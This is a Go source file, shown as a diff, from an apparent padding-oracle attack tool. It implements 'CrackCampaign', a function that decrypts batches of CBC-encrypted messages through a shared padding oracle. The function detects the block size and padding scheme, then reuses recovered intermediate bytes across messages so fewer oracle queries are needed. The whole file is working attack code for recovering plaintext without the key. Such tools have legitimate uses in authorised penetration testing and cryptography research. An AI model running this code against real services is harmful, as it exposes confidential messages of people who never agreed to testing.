@@ -0,0 +1,239 @@
+//
+// SPDX-FileCopyrightText: Copyright 2026 Frank Schwab
+//
+// SPDX-License-Identifier: Apache-2.0
+//
+// SPDX-FileType: SOURCE
+//
+// Licensed under the Apache License, Version 2.0 (the "License");
+// You may not use this file except in compliance with the License.
+//
+// You may obtain a copy of the License at
+//
+//     http://www.apache.org/licenses/LICENSE-2.0
+//
+// Unless required by applicable law or agreed to in writing, software
+// distributed under the License is distributed on an "AS IS" BASIS,
+// WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
+// See the License for the specific language governing permissions and
+// limitations under the License.
+//
+// Author: Frank Schwab
+//
+// Version: 1.0.0
+//
+// Change history:
+//    2026-10-18: V1.0.0: Created.
+//
+
+// This file contains the cracking of many encrypted messages with a shared padding oracle.
+//
+// The intermediate bytes of a block only depend on the encrypted block and the key,
+// not on the block before it or the initialization vector.
+// So every distinct encrypted block only needs to be cracked once.
+// If it occurs again, in the same or in another message, its intermediate bytes are reused,
+// and the clear block is derived by XORing them with the block before it.
+
+package attack
+
+import (
+	"context"
+	"errors"
+	"padora/oracle"
+	"padora/padding"
+)
+
+// ******** Public types ********
+
+// CampaignEntry is the result of cracking one encrypted message of a campaign.
+type CampaignEntry struct {
+	// EncryptedMessage is the encrypted message including the initialization vector.
+	EncryptedMessage []byte
+	// ClearMessage is the recovered clear message without the padding.
+	// It is nil, if the message could not be cracked.
+	ClearMessage []byte
+	// Err is the error that occurred when the message was cracked, or nil.
+	Err error
+	// QueryCount is the number of queries needed for this message.
+	QueryCount int
+	// CrackedBlockCount is the number of blocks that have been cracked.
+	CrackedBlockCount int
+	// ReusedBlockCount is the number of blocks whose intermediate bytes have been reused.
+	ReusedBlockCount int
+}
+
+// CampaignResult is the result of cracking many encrypted messages.
+type CampaignResult struct {
+	// Entries contains the results of the encrypted messages in the order they were given.
+	Entries []CampaignEntry
+	// BlockSize is the detected block size.
+	BlockSize int
+	// Scheme is the detected padding scheme.
+	Scheme padding.Scheme
+	// DetectionQueryCount is the number of queries needed to detect the block size and the padding scheme.
+	DetectionQueryCount int
+	// QueryCount is the number of all queries, including the detection.
+	QueryCount int
+	// CrackedBlockCount is the number of blocks that have been cracked.
+	CrackedBlockCount int
+	// ReusedBlockCount is the number of blocks whose intermediate bytes have been reused.
+	ReusedBlockCount int
+}
+
+// ******** Public variables ********
+
+// ErrNoMessages signals that a campaign has no encrypted messages.
+var ErrNoMessages = errors.New(`no encrypted messages`)
+
+// ErrInvalidMessageLength signals that an encrypted message is not a multiple of the block size
+// or does not consist of the initialization vector and at least one block.
+var ErrInvalidMessageLength = errors.New(`invalid encrypted message length`)
+
+// ******** Public functions ********
+
+// CrackCampaign cracks many encrypted messages with a shared padding oracle.
+// The block size and the padding scheme are detected with the first message.
+// Every distinct encrypted block is cracked only once.
+// An error of a single message is put into its entry and the campaign continues.
+// The result is never nil.
+// If cracking is stopped by the context or a limit of the options, the entries cracked so far
+// are returned together with the [StoppedError] of the message that was being cracked.
+// The limits of the options apply to the whole campaign.
+// Checkpoints, resuming and block selections of the options are ignored.
+// Campaigns are not supported for lenient padding.
+func CrackCampaign(
+	ctx context.Context,
+	oracle oracle.PaddingOracle,
+	encryptedMessages [][]byte,
+	options Options) (*CampaignResult, error) {
+	result := &CampaignResult{}
+	if len(encryptedMessages) == 0 {
+		return result, ErrNoMessages
+	}
+
+	limitedOracle := NewLimitedPaddingOracle(ctx, oracle, options)
+
+	// 1. Detect the block size and the padding scheme with the first message.
+	firstMessage := encryptedMessages[0]
+	blockSize, count, err := DetectBlockSize(limitedOracle, firstMessage)
+	if err != nil {
+		result.QueryCount = limitedOracle.QueryCount()
+		return result, wrapDetectionError(err, result.QueryCount, len(firstMessage))
+	}
+
+	scheme, schemeCount, err := DetectPaddingScheme(limitedOracle, firstMessage, blockSize)
+	count += schemeCount
+	result.QueryCount = limitedOracle.QueryCount()
+	if err != nil {
+		return result, wrapDetectionError(err, result.QueryCount, len(firstMessage)-blockSize)
+	}
+
+	result.BlockSize = blockSize
+	result.Scheme = scheme
+	result.DetectionQueryCount = count
+	sendEvent(options.Observers, Event{
+		Kind:       EventDetected,
+		QueryCount: count,
+		BlockSize:  blockSize,
+		Scheme:     scheme,
+	})
+
+	if scheme.Tail(1) == nil {
+		return result, ErrOnlyLastBytes
+	}
+
+	// The limited oracle already enforces the limits for the whole campaign.
+	crackOptions := options
+	crackOptions.MaxQueries = 0
+	crackOptions.QueriesPerSecond = 0
+	crackOptions.QueryTimeout = 0
+	crackOptions.CheckpointPath = ``
+	crackOptions.Resume = nil
+
+	// 2. Crack the messages one after the other and collect the intermediate bytes of their blocks.
+	intermediates := make(map[string][]byte)
+	for _, encryptedMessage := range encryptedMessages {
+		entry, err := crackCampaignMessage(ctx, limitedOracle, encryptedMessage, blockSize, scheme, crackOptions, intermediates)
+		result.Entries = append(result.Entries, entry)
+		result.CrackedBlockCount += entry.CrackedBlockCount
+		result.ReusedBlockCount += entry.ReusedBlockCount
+		result.QueryCount = limitedOracle.QueryCount()
+		var stoppedError *StoppedError
+		if errors.As(err, &stoppedError) {
+			stoppedError.QueryCount = result.QueryCount
+			return result, err
+		}
+	}
+
+	return result, nil
+}
+
+// ******** Private functions ********
+
+// crackCampaignMessage cracks the blocks of an encrypted message whose intermediate bytes are not known yet
+// and derives the clear message from the intermediate bytes of all blocks.
+// The intermediate bytes of the cracked blocks are added to the known ones.
+// It returns the entry of the message and the error that stopped cracking, if any.
+func crackCampaignMessage(
+	ctx context.Context,
+	oracle oracle.PaddingOracle,
+	encryptedMessage []byte,
+	blockSize int,
+	scheme padding.Scheme,
+	options Options,
+	intermediates map[string][]byte) (CampaignEntry, error) {
+	entry := CampaignEntry{EncryptedMessage: encryptedMessage}
+	if len(encryptedMessage)%blockSize != 0 || len(encryptedMessage) < blockSize<<1 {
+		entry.Err = ErrInvalidMessageLength
+		return entry, nil
+	}
+
+	// 1. Select every block whose intermediate bytes are not known and that has not been selected before.
+	blockCount := len(encryptedMessage) / blockSize
+	options.Blocks = nil
+	isSelected := make(map[string]bool)
+	for i := 1; i < blockCount; i++ {
+		block := string(encryptedMessage[i*blockSize : (i+1)*blockSize])
+		if intermediates[block] != nil || isSelected[block] {
+			entry.ReusedBlockCount++
+			continue
+		}
+
+		isSelected[block] = true
+		options.Blocks = append(options.Blocks, i)
+	}
+
+	// 2. Crack the selected blocks.
+	if len(options.Blocks) != 0 {
+		result, err := Crack(ctx, oracle, encryptedMessage, blockSize, scheme, options)
+		entry.QueryCount = result.QueryCount
+		if err != nil {
+			entry.Err = err
+			return entry, err
+		}
+
+		for _, i := range options.Blocks {
+			intermediates[string(encryptedMessage[i*blockSize:(i+1)*blockSize])] = result.State.Intermediates[i]
+		}
+
+		entry.CrackedBlockCount = len(options.Blocks)
+	}
+
+	// 3. Derive the clear message from the intermediate bytes and the previous blocks.
+	paddedMessage := make([]byte, len(encryptedMessage)-blockSize)
+	for i := 1; i < blockCount; i++ {
+		intermediate := intermediates[string(encryptedMessage[i*blockSize:(i+1)*blockSize])]
+		if intermediate == nil {
+			entry.Err = ErrBlockNotRecovered
+			return entry, nil
+		}
+
+		for j, b := range intermediate {
+			paddedMessage[(i-1)*blockSize+j] = b ^ encryptedMessage[(i-1)*blockSize+j]
+		}
+	}
+
+	entry.ClearMessage, entry.Err = scheme.Unpad(paddedMessage, blockSize)
+
+	return entry, nil
+}